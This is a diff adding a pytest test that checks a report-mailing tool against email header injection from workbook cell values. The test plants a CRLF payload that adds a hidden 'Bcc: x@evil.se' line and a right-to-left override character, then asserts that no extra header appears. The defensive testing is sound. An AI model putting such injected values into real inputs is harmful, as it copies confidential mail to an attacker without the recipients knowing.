@@ -222,6 +222,22 @@ def test_to_means_these_and_no_others(post: Post) -> None:
     assert post.box.reached == ["ann@kund.se", "ny@kund.se"]
 
 
+def test_no_cell_of_the_workbook_reaches_a_header(post: Post) -> None:
+    """The subject has a KPI's name and the attachment that of the client."""
+    book = load_workbook(post.book)
+    for sheet in book:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.value in {"Tallvik Laddning", "Konverteringsgrad"}:
+                    cell.value = f"{cell.value}\r\nBcc: x@evil.se\r\n\r\n\u202e"
+    book.save(post.book)
+    assert post("--yes").code == 0
+    assert post.box.reached == EVERYONE
+    fields = "Subject From To Cc MIME-Version Content-Type Date Message-ID"
+    assert all(message.keys() == fields.split() for _, message in post.box.inbox)
+    assert "Bcc: x@evil.se" in str(post.box.inbox[0][1]["Subject"])
+
+
 @pytest.mark.parametrize(("answer", "code", "reached"), [("j\n", 0, EVERYONE), ("\n", 130, [])])
 def test_it_asks_first(
     post: Post, monkeypatch: pytest.MonkeyPatch, answer: str, code: int, reached: list[str]
